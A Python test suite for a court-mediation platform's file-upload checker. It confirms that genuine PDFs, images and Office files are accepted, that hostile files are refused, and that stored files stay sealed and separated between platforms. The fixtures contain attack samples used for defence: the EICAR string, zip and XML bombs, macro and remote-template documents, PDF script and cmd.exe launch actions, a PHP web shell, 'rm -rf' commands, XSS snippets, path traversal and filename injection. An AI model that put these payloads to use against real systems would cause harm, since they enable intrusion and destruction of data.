"""Files from outside: the good ones come in, the hostile ones do not, and what came in stays what it was."""

from __future__ import annotations

import hashlib
import io
import os
import struct
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mediation import files
from mediation.chain import SealBroken
from mediation.files import MEBIBYTE, BlobMissing, FileRefused, clean_name, download_headers, judge
from mediation.models.files import Blob

AT = datetime(2026, 3, 2, 1, tzinfo=UTC)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"

# Makers of honest files


def pdf(body: bytes = b"<< /Type /Catalog >>", tail: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" + tail


def pdf_stream(dictionary: bytes, content: bytes) -> bytes:
    return pdf(dictionary + b"\nstream\n" + content + b"\nendstream")


def object_stream(content: bytes, more: bytes = b"") -> bytes:
    return pdf_stream(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode" + more + b" >>", zlib.compress(content))


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int = 2, height: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(6))) + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    frame = struct.pack(">HHBHHB", 0xFFC0, 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x04JF" + frame + b"\xff\xda\x00\x04\x01\x00scan\xff\xd9" + tail


def webp() -> bytes:
    return b"RIFF" + struct.pack("<I", 16) + b"WEBPVP8L" + struct.pack("<I", 4) + b"/\x00\x00\x00"


DOCX = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml"/></Types>',
    "word/document.xml": "<w:document><w:t>调解协议</w:t></w:document>".encode(),
    "word/_rels/document.xml.rels": b"<Relationships><Relationship "
    b'Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>',
}
XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}


def archive(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as target:
        for name, content in entries.items():
            target.writestr(name, content)
    return written.getvalue()


def docx(**more: bytes) -> bytes:
    return archive(DOCX | {name.replace("__", "/"): content for name, content in more.items()})


def with_entry(name: str, content: bytes = b"x") -> bytes:
    return archive(DOCX | {name: content})


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("申请书.pdf", pdf(), "PDF"),
        ("申请书.PDF", pdf(b"<< /OpenAction [3 0 R /Fit] /AcroForm << >> >>"), "PDF"),
        ("压缩.pdf", object_stream(b"1 0 << /Type /Page >>"), "PDF"),
        ("照片.jpg", jpeg(), "JPEG"),
        ("照片.jpeg", jpeg(4000, 3000, tail=b"preview behind the picture"), "JPEG"),
        ("截图.png", png(), "PNG"),
        ("图.webp", webp(), "WebP"),
        ("协议.docx", docx(), "DOCX"),
        ("流水.xlsx", archive(XLSX), "XLSX"),
        ("说明.txt", "第一条 双方同意。\r\n\t甲方".encode(), "TXT"),
        ("说明.txt", "第一条 双方同意。".encode("gb18030"), "TXT"),
        ("说明.txt", "\ufeff带标记的UTF-8，1 < 2".encode(), "TXT"),
        ("无扩展名", pdf(), "PDF"),
    ],
)
def test_an_honest_file_comes_in_as_what_it_is(name, content, kind):
    judged = judge(name, content)

    assert (judged.type, judged.size) == (kind, len(content))
    assert judged.sha256 == hashlib.sha256(content).hexdigest()
    assert judged.media_type == files.TYPES[kind].media_type
    assert judge(name, io.BytesIO(content)) == judged


def overlapping() -> bytes:
    """Ten directory entries that share one compressed kernel, as the flattest bombs do."""
    raw = bytearray(archive(DOCX | {"word/a.bin": zlib.compress(bytes(range(256)) * 40)}))
    at = raw.rfind(b"PK\x01\x02")
    end = raw.rfind(b"PK\x05\x06")
    entry = bytes(raw[at:end])
    clones = b"".join(entry.replace(b"word/a.bin", b"word/%d.bin" % number) for number in range(9))
    tail = bytearray(raw[end:])
    count, size = struct.unpack_from("<H", tail, 10)[0] + 9, struct.unpack_from("<I", tail, 12)[0] + len(clones)
    struct.pack_into("<HHI", tail, 8, count, count, size)
    return bytes(raw[:end]) + clones + bytes(tail)


def lying_size() -> bytes:
    """A directory that promises ten bytes of an entry that unpacks to two million."""
    raw = bytearray(archive(DOCX | {"word/media/a.bin": bytes(2_000_000)}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into(
            "<I",
            raw,
            raw.rfind(sign, 0, raw.rfind(b"word/media/a.bin") if place == 24 else raw.find(b"word/media/a.bin"))
            + place,
            10,
        )
    return bytes(raw)


def too_many() -> bytes:
    return archive(DOCX | {f"word/media/{number}.png": b"" for number in range(2_100)}, zipfile.ZIP_STORED)


def encrypted_entry() -> bytes:
    raw = bytearray(docx())
    raw[raw.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(raw)


def doubled_entry() -> bytes:
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a") as target, pytest.warns(UserWarning, match="Duplicate"):
        target.writestr("word/document.xml", b"another")
    return written.getvalue()


def external(kind: str, order: bool = True) -> bytes:
    parts = [f'Type="http://schemas.example/{kind}"', 'Target="http://evil.example/x"', 'TargetMode="External"']
    line = " ".join(parts if order else reversed(parts))
    return with_entry("word/_rels/settings.xml.rels", f"<Relationships><Relationship {line}/></Relationships>".encode())


HOSTILE = {
    "empty": ("a.pdf", b"", "空"),
    "one byte": ("a.pdf", b"%", "扩展名与内容不符"),
    "21 MB of PDF": ("a.pdf", pdf(tail=bytes(21 * MEBIBYTE)), "20 MB"),
    "20 MB of text": ("a.txt", b"a" * (20 * MEBIBYTE - 1), "2 MB"),
    "text called PDF": ("a.pdf", b"hello", "扩展名与内容不符"),
    "PDF called JPEG": ("a.jpg", pdf(), "扩展名与内容不符"),
    "PNG called PDF": ("a.pdf", png(), "扩展名与内容不符"),
    "JPEG called PNG": ("a.png", jpeg(), "扩展名与内容不符"),
    "DOCX called XLSX": ("a.xlsx", docx(), "扩展名与内容不符"),
    "PDF called EXE": ("a.pdf.exe", pdf(), "扩展名与内容不符"),
    "PDF called HTML": ("a.html", pdf(), "扩展名与内容不符"),
    "PDF called SVG": ("a.svg", pdf(), "扩展名与内容不符"),
    "direction override hides EXE": ("协议\u202efdp.exe", pdf(), "扩展名与内容不符"),
    "NUL hides EXE": ("a.pdf\x00.exe", pdf(), "扩展名与内容不符"),
    "program": ("a.exe", b"MZ\x90\x00" + bytes(60), "程序"),
    "program called PDF": ("a.pdf", b"MZ\x90\x00" + bytes(60), "程序"),
    "ELF": ("a.txt", b"\x7fELF" + bytes(60), "程序"),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "程序"),
    "Java class": ("a.class", b"\xca\xfe\xba\xbe" + bytes(20), "程序"),
    "shortcut": ("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(20), "程序"),
    "EICAR": ("a.txt", EICAR, "病毒"),
    "EICAR in a PDF": ("a.pdf", pdf(EICAR), "病毒"),
    "EICAR behind a picture": ("a.jpg", jpeg(tail=EICAR), "病毒"),
    "EICAR inside a document": ("a.docx", with_entry("word/media/a.bin", EICAR), "病毒"),
    "HTML": ("a.html", b"<!DOCTYPE html><script>alert(1)</script>", "网页"),
    "HTML called text": ("a.txt", b"  <html><body>", "网页"),
    "script in text": ("a.txt", "说明 <ScRiPt>alert(1)</script>".encode(), "网页"),
    "SVG": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "网页"),
    "SVG called PNG": ("a.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "网页"),
    "XML with entities": ("a.txt", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "网页"),
    "PHP": ("a.php", b"<?php system($_GET[0]); ?>", "网页"),
    "RTF": ("a.rtf", b"{\\rtf1\\ansi hello}", "网页"),
    "PostScript": ("a.txt", b"%!PS-Adobe-3.0\n(x) run", "网页"),
    "NUL in text": ("a.txt", b"hello\x00world", "无法识别"),
    "escape codes in text": ("a.txt", b"\x1b[2Jhello", "无法识别"),
    "UTF-16 text": ("a.txt", "说明".encode("utf-16"), "无法识别"),
    "random bytes": ("a.pdf", bytes(range(128, 256)) * 3, "无法识别"),
    "GIF": ("a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "无法识别"),
    "RAR": ("a.rar", b"Rar!\x1a\x07\x00" + bytes(20), "压缩包"),
    "7z called PDF": ("a.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(20), "压缩包"),
    "gzip bomb": ("a.gz", b"\x1f\x8b\x08" + zlib.compress(bytes(MEBIBYTE)), "压缩包"),
    "plain archive": ("a.zip", archive({"a.pdf": pdf()}), "压缩包"),
    "plain archive called DOCX": ("a.docx", archive({"a.pdf": pdf()}), "压缩包"),
    "archive in an archive": ("a.docx", with_entry("word/media/a.bin", archive({"x": bytes(100)})), "宏"),
    "empty archive": ("a.zip", b"PK\x05\x06" + bytes(18), "压缩包"),
    "old Office": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧版或者加密"),
    "encrypted DOCX": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧版或者加密"),
    "encrypted entry": ("a.docx", encrypted_entry(), "加密"),
    "bomb by ratio": ("a.docx", with_entry("word/media/a.bmp", bytes(20 * MEBIBYTE)), "炸弹"),
    "bomb by size": ("a.xlsx", archive(XLSX | {f"xl/media/{n}": b"ab" * 13 * MEBIBYTE for n in range(4)}), "炸弹"),
    "bomb by count": ("a.docx", too_many(), "炸弹"),
    "bomb by overlap": ("a.docx", overlapping(), "炸弹"),
    "bomb by a lying directory": ("a.docx", lying_size(), "损坏"),
    "billion laughs": ("a.docx", with_entry("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'), "炸弹"),
    "billion laughs in UTF-16": (
        "a.docx",
        with_entry("word/styles.xml", '<!DOCTYPE x [<!ENTITY a "h">]>'.encode("utf-16")),
        "炸弹",
    ),
    "macro": ("a.docx", with_entry("word/vbaProject.bin"), "宏"),
    "macro elsewhere": ("a.xlsx", archive(XLSX | {"odd/VBAPROJECT.BIN": b"x"}), "宏"),
    "macro by declared type": (
        "a.docx",
        archive(DOCX | {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "宏",
    ),
    "macro called otherwise": (
        "a.docx",
        with_entry(
            "word/_rels/document.xml.rels", b'<R Type="http://x/2006/relationships/vbaProject" Target="a.bin"/>'
        ),
        "宏",
    ),
    "Excel 4 macro": ("a.xlsx", archive(XLSX | {"xl/macrosheets/sheet1.xml": b"<x/>"}), "宏"),
    "ActiveX": ("a.docx", with_entry("word/activeX/activeX1.xml"), "宏"),
    "embedded object": ("a.docx", with_entry("word/embeddings/oleObject1.bin"), "宏"),
    "embedded program": ("a.docx", with_entry("word/media/image1.png", b"MZ\x90\x00"), "宏"),
    "program by name": ("a.docx", with_entry("word/media/run.exe"), "宏"),
    "remote template": ("a.docx", external("attachedTemplate"), "宏"),
    "remote template, other order": ("a.docx", external("attachedTemplate", order=False), "宏"),
    "remote template behind a reference": ("a.docx", external("&#97;ttachedTemplate"), "宏"),
    "remote frame": ("a.docx", external("frame"), "宏"),
    "remote object": ("a.docx", external("oleObject"), "宏"),
    "entry outside": ("a.docx", with_entry("../../etc/passwd"), "夹带"),
    "absolute entry": ("a.docx", with_entry("/etc/passwd"), "夹带"),
    "entry with a drive": ("a.docx", with_entry("C:/x"), "夹带"),
    "two entries of one name": ("a.docx", doubled_entry(), "夹带"),
    "document behind a PDF": ("a.docx", archive({"%PDF-1.7": b"x"} | DOCX), "夹带"),
    "odd compression": ("a.docx", archive(DOCX, zipfile.ZIP_LZMA), "损坏"),
    "cut-off document": ("a.docx", docx()[:-30], "损坏"),
    "document with a spoilt entry": (
        "a.docx",
        docx().replace(b"PK\x03\x04", b"PK\x03\x05").replace(b"PK\x03\x05", b"PK\x03\x04", 1),
        "损坏",
    ),
    "PDF without an end": ("a.pdf", pdf()[:-8], "损坏"),
    "PDF and archive": ("a.pdf", pdf() + archive({"a": b"b"}), "夹带"),
    "PDF with script": ("a.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "宏"),
    "PDF with a disguised script": ("a.pdf", pdf(b"<< /S /J#61vaScr#69pt >>"), "宏"),
    "PDF with script in a stream": ("a.pdf", object_stream(b"1 0 << /S /JavaScript >>"), "宏"),
    "PDF with a disguised stream": (
        "a.pdf",
        pdf_stream(b"<< /N 1 /F#69rst 4 /F#69lter/Fl >>", zlib.compress(b"1 0 << /S /Java#53cript >>")),
        "宏",
    ),
    "PDF with script between false streams": ("a.pdf", pdf(b"(>>\nstream\n) << /S /JavaScript >> (\nendstream)"), "宏"),
    "PDF with a stream nobody can examine": (
        "a.pdf",
        pdf_stream(b"<< /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>", b"78"),
        "无法检查",
    ),
    "PDF with a predicted stream": (
        "a.pdf",
        object_stream(b"1 0 << >>", b" /DecodeParms << /Predictor 12 >>"),
        "无法检查",
    ),
    "PDF with a filter elsewhere": ("a.pdf", pdf_stream(b"<< /ObjStm /First 4 /Filter 9 0 R >>", b"x"), "无法检查"),
    "PDF with a spoilt stream": (
        "a.pdf",
        pdf_stream(b"<< /ObjStm /First 4 /Filter /FlateDecode >>", b"nonsense"),
        "损坏",
    ),
    "PDF bomb": ("a.pdf", object_stream(bytes(17 * MEBIBYTE)), "炸弹"),
    "PDF that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "宏"),
    "PDF with a file inside": ("a.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "宏"),
    "PDF with files inside": ("a.pdf", pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "宏"),
    "PDF with a film": ("a.pdf", pdf(b"<< /Subtype /RichMedia >>"), "宏"),
    "PDF that sends itself": ("a.pdf", pdf(b"<< /S /SubmitForm /F (http://x) >>"), "宏"),
    "PDF with a form program": ("a.pdf", pdf(b"<< /AcroForm << /XFA [ (a) 3 0 R ] >> >>"), "宏"),
    "PDF of escapes only": ("a.pdf", pdf(b"#41" * 600_000), "无法检查"),
    "PDF of stream marks only": ("a.pdf", pdf(b"stream\n" * 60_000), "无法检查"),
    "PNG of chunks only": ("a.png", png()[:33] + chunk(b"tEXt", b"") * 60_000 + chunk(b"IEND", b""), "损坏"),
    "JPEG of segments only": ("a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 60_000, "损坏"),
    "locked PDF": ("a.pdf", pdf(b"<< /Encrypt 5 0 R >>"), "加密"),
    "PNG with a tail": ("a.png", png() + b"<script>", "夹带"),
    "PNG and archive": ("a.png", png() + archive({"a": b"b"}), "夹带"),
    "PNG with a wrong sum": ("a.png", png().replace(b"IDAT", b"IDAX"), "损坏"),
    "cut-off PNG": ("a.png", png()[:-4], "损坏"),
    "PNG of four gigapixels": ("a.png", png(65_535, 65_535), "尺寸"),
    "PNG of nothing": ("a.png", png(0, 5), "损坏"),
    "JPEG and archive": ("a.jpg", jpeg(tail=archive({"a": b"b"})), "夹带"),
    "JPEG of four gigapixels": ("a.jpg", jpeg(65_535, 65_535), "尺寸"),
    "JPEG without a picture": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x04JF\xff\xd9", "损坏"),
    "cut-off JPEG": ("a.jpg", jpeg()[:-2], "损坏"),
    "JPEG with a wrong length": ("a.jpg", b"\xff\xd8\xff\xe0\xff\xffJF", "损坏"),
    "WebP with a tail": ("a.webp", webp() + b"tail", "夹带"),
    "cut-off WebP": ("a.webp", webp()[:-4], "损坏"),
    "sound called WebP": ("a.webp", webp().replace(b"VP8L", b"fmt "), "损坏"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_what_is_wrong_and_what_to_do(case):
    name, content, said = HOSTILE[case]

    with pytest.raises(FileRefused, match=said) as caught:
        judge(name, content)

    assert "请" in str(caught.value)
    assert str(caught.value) == caught.value.message % caught.value.params


def test_there_are_enough_hostile_files():
    assert len(HOSTILE) >= 100


def test_a_type_that_is_not_asked_for_is_refused_by_name():
    pictures = ("JPEG", "PNG")

    assert judge("a.png", png(), allowed=pictures).type == "PNG"
    with pytest.raises(FileRefused, match="JPEG、PNG"):
        judge("a.pdf", pdf(), allowed=pictures)


def test_no_more_is_read_than_the_limit_and_one_byte():
    class Endless(io.RawIOBase):
        asked = 0

        def read(self, size: int = -1) -> bytes:
            self.asked += size
            return b"%PDF-" + bytes(size - 5)

    source = Endless()

    with pytest.raises(FileRefused, match="20 MB"):
        judge("a.pdf", source)
    assert source.asked == files.LARGEST_FILE + 1


@settings(max_examples=60)
@given(
    st.sampled_from([pdf(), object_stream(b"1 0 << >>"), png(), jpeg(), webp(), docx(), archive(XLSX), b"text"]),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=6),
    st.integers(0, 3_000),
)
def test_a_mangled_file_is_judged_or_refused_but_never_breaks_the_judge(content, edits, kept):
    mangled = bytearray(content)
    for place, byte in edits:
        mangled[place % len(mangled)] = byte

    for raw in (bytes(mangled), bytes(mangled[:kept])):
        try:
            size = judge("a", raw).size
        except FileRefused as refused:
            assert refused.message  # noqa: PT017
        else:
            assert size == len(raw)


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("协议.pdf", "协议.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\li\\合同 (1).pdf", "合同 (1).pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"),
        ("\u202efdp.txt", "fdp.txt"),
        ('a"b<c>|d*?.pdf', "a_b_c__d__.pdf"),
        ("$(rm -rf).pdf", "_(rm -rf).pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("...", "材料.pdf"),
        ("", "材料.pdf"),
        (".pdf", "材料.pdf"),
        (" .. .pdf", "材料.pdf"),
        ("\ud800.pdf", "材料.pdf"),
        ("第1.2版", "第1.2版.pdf"),
    ],
)
def test_a_name_is_cleaned(name, safe):
    assert clean_name(name, "pdf") == safe


@given(st.text(max_size=300))
def test_every_cleaned_name_is_short_safe_and_clean_already(name):
    safe = clean_name(name, "pdf")

    assert 0 < len(safe) <= files.LONGEST_NAME + 1
    assert not set(safe) & set('/\\<>:"|?*\r\n\0')
    assert not safe.startswith(".")
    assert clean_name(safe, "pdf") == safe
    assert "\n" not in "".join(download_headers(name, "application/pdf").values())


def test_a_file_leaves_as_a_download_that_no_browser_runs():
    headers = download_headers("调解协议.pdf", "application/pdf")

    assert headers["Content-Disposition"].startswith("attachment;")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    assert download_headers("a.html", "text/html")["Content-Type"] == "application/octet-stream"


# Keeping


@pytest.fixture
def state(settings, tmp_path):
    settings.STATE_DIR = tmp_path
    return tmp_path


def contents(state: Path) -> list[Path]:
    return [path for path in state.rglob("*") if path.is_file()]


@pytest.mark.django_db
def test_a_stored_file_is_sealed_at_rest_and_fetched_unchanged(state):
    content = pdf("张三 11010519491231002X".encode())

    blob = files.store("courtplatform", judge("a.pdf", content), content, AT)

    (path,) = contents(state)
    assert b"11010519491231002X" not in path.read_bytes()
    assert path.stat().st_mode & 0o077 == 0
    assert files.fetch("courtplatform", blob.sha256) == content
    assert (blob.size, blob.media_type, blob.stored_at) == (len(content), "application/pdf", AT)


@pytest.mark.django_db
def test_storing_again_changes_nothing_and_heals_what_was_spoilt(state):
    content = pdf()
    first = files.store("courtplatform", judge("a.pdf", content), content, AT)
    (path,) = contents(state)
    before = path.read_bytes()

    assert files.store("courtplatform", judge("b.pdf", content), content, AT) == first
    assert path.read_bytes() == before
    path.write_bytes(before[:-1] + b"?")
    with pytest.raises(SealBroken):
        files.fetch("courtplatform", first.sha256)
    files.store("courtplatform", judge("a.pdf", content), content, AT)

    assert files.fetch("courtplatform", first.sha256) == content
    assert contents(state) == [path]
    assert Blob.objects.count() == 1


@pytest.mark.django_db
def test_a_platform_sees_only_its_own_files(state):
    content = pdf()
    blob = files.store("courtplatform", judge("a.pdf", content), content, AT)

    for platform, sha256 in (
        ("investornet", blob.sha256),
        ("courtplatform", "0" * 64),
        ("../x", blob.sha256),
        ("courtplatform", "../../x"),
    ):
        with pytest.raises(BlobMissing):
            files.fetch(platform, sha256)


@pytest.mark.django_db
def test_one_platforms_file_put_into_the_others_place_does_not_open(state):
    content = pdf()
    for platform in ("courtplatform", "investornet"):
        files.store(platform, judge("a.pdf", content), content, AT)
    court, net = sorted(contents(state))
    net.write_bytes(court.read_bytes())

    with pytest.raises(SealBroken):
        files.fetch("investornet", hashlib.sha256(content).hexdigest())


@pytest.mark.django_db
def test_an_erased_file_is_gone_and_erasing_twice_does_no_harm(state):
    content = pdf()
    blob = files.store("courtplatform", judge("a.pdf", content), content, AT)

    for _ in range(2):
        files.erase("courtplatform", blob.sha256)

    assert contents(state) == []
    assert not Blob.objects.exists()
    with pytest.raises(BlobMissing):
        files.fetch("courtplatform", blob.sha256)


@pytest.mark.django_db
def test_what_a_fault_left_is_swept_after_a_month_and_what_a_row_names_stays(state):
    named, left, back = (pdf(word) for word in (b"named", b"left", b"back"))
    for content in (named, left, back):
        files.store("courtplatform", judge("a.pdf", content), content, AT)
    Blob.objects.exclude(sha256=hashlib.sha256(named).hexdigest()).delete()
    (half := contents(state)[0].with_name(".half.0")).write_bytes(b"?")
    month_ago = (AT - files.LEFT).timestamp() - 86_400
    for one in contents(state):
        os.utime(one, (month_ago, month_ago))

    def sweep(at: datetime) -> int:
        return sum(files.sweep("courtplatform", at + timedelta(minutes=minute)) for minute in range(256))

    early = sweep(AT - timedelta(days=2))
    # Handed in again: what a fault left is used, and no longer old.
    files.store("courtplatform", judge("a.pdf", back), back, AT)
    Blob.objects.filter(sha256=hashlib.sha256(back).hexdigest()).delete()
    swept = sweep(AT)

    assert (early, swept, half.exists()) == (0, 2, False)
    assert {one.name for one in contents(state)} == {hashlib.sha256(one).hexdigest() for one in (named, back)}


@pytest.mark.django_db
def test_only_what_was_judged_is_stored_and_a_failed_write_leaves_nothing(state, monkeypatch):
    judged = judge("a.pdf", pdf())

    with pytest.raises(ValueError, match="judged"):
        files.store("courtplatform", judged, pdf(b"other"), AT)

    def break_off(path: Path, target: Path) -> Path:
        raise OSError("disk full")

    monkeypatch.setattr(Path, "replace", break_off)
    with pytest.raises(OSError, match="disk full"):
        files.store("courtplatform", judged, pdf(), AT)
    assert contents(state) == []
    assert not Blob.objects.exists()
